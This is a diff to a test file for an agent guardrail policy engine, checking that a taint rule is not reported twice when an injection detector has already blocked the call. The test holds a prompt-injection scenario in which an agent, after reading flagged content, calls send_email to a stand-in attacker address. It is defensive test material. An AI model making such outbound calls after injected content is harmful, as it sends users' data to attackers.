@@ -211,6 +211,16 @@ def test_sequence_rule_ag019_fires_for_outbound_tools_after_a_flag(pack: Policy)
     assert decision.category == "taint"
     assert "AG019" not in rule_ids(pack.evaluate(
         ToolCall(context=context, tool="lookup_customer", arguments={})))
+    # The injection detector escalated this very call already: the same story is told once.
+    from agentguard.findings import Finding
+
+    escalated = Verdict()
+    escalated.findings.append(Finding(
+        rule_id="injection-escalation", category="injection", severity="high", action="block",
+        title="sensitive tool send_email called after flagged content", kind="tool_call",
+        tool="send_email", conversation_id="ag019"))
+    assert "AG019" not in rule_ids(pack.evaluate(
+        ToolCall(context=context, tool="send_email", arguments={"to": "x@evil.io"}), escalated))
 
 
 def test_rate_rule_ag020_fires_on_a_runaway_loop(pack: Policy) -> None:
